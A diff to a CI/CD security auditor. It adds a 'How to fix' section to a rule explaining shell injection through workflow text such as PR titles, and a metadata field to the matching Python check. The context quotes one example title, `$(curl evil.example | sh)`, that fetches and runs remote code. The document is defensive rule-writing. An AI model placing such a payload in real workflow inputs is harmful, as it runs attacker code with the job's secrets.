@@ -7,6 +7,11 @@ any more where the script makes code of it: `eval`, `bash -c "… $TITLE"`, a pi
 command of `ssh` or of `docker run … sh -c`, or the name of a command. A title `$(curl evil.example | sh)`
 then runs with the job's token and secrets.
 
+## How to fix
+
+Hand the text to a program as an argument or through its environment, in double quotes, and let no shell
+read it again. `bash -c 'run "$0"' "$TEXT"` keeps it an argument.
+
 ## Bad
 
 ```yaml
@@ -66,6 +71,7 @@ from auditor.api import Confidence, Facts, Hit, Severity, Step, TextSink, TextSi
     severity=Severity.HIGH,
     cwe=78,
     owasp="CICD-SEC-4",
+    boundary="code",
     since="0.2.0",
 )
 def check(step: Step, facts: Facts) -> Iterator[Hit]:
